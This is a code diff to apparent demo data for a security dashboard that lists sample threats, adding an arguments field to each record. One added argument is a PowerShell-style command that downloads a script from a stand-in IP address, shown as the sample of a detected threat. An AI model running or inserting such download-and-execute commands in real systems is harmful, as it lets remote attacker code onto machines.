@@ -10,6 +10,8 @@ interface Kind {
   folder: string;
   parent: string;
   target: string;
+  /** Arguments of the program. */
+  args: string;
 }
 
 const DRIVERS = 'C:\\Windows\\System32\\drivers\\';
@@ -27,7 +29,8 @@ const kind = (
   folder: string,
   parent: string,
   target: string,
-): Kind => ({ threat, severity, action, rule, process, folder, parent, target });
+  args = '/s',
+): Kind => ({ threat, severity, action, rule, process, folder, parent, target, args });
 
 /** Threats of the demo. Frequent kinds are listed several times. */
 export const DEMO_THREATS: readonly Kind[] = [
@@ -104,6 +107,7 @@ export const DEMO_THREATS: readonly Kind[] = [
     'C:\\Windows\\',
     'wscript.exe',
     '192.0.2.61',
+    '-c "(New-Object Net.WebClient).DownloadString(\'http://192.0.2.61/a\')"',
   ),
   kind('hosts', 'medium', 'blocked', '保护 hosts 文件', 'netfix.exe', TEMP, 'cmd.exe', HOSTS),
   kind(
@@ -115,6 +119,7 @@ export const DEMO_THREATS: readonly Kind[] = [
     TEMP,
     'cmd.exe',
     'billing.exe',
+    '/p billing.exe',
   ),
   kind(
     'inject',
